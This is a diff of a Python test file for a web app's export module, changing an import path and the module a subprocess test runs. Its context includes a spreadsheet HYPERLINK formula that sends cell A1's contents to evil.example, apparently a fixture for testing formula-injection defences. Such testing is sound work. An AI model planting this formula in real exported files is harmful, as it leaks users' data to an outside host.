@@ -18,7 +18,7 @@ from conftest import Wizard, csrf_token, fresh_database
 from readiness import export as fmt
 from test_group import answer, join
 from test_workspace import open_workspace
-from webapp import export as webexport
+from webapp.export import exporter as webexport
 from webapp.models import Assessment, Invitation, Workspace
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
@@ -195,7 +195,7 @@ def test_operator_export_of_a_file_that_is_no_readiness_database(tmp_path):
     junk = tmp_path / "junk.sqlite3"
     junk.write_bytes(b"not a database at all" * 100)
     for path in (empty, junk):
-        done = subprocess.run([sys.executable, "-m", "webapp.export", "--database", f"sqlite:///{path}"],
+        done = subprocess.run([sys.executable, "-m", "webapp.export.exporter.exporter", "--database", f"sqlite:///{path}"],
                               capture_output=True, text=True, cwd=Path(__file__).resolve().parents[1], timeout=60)
         assert done.returncode == 2, done.stderr
         assert done.stdout == "" and "cannot read a Cluster Readiness database" in done.stderr
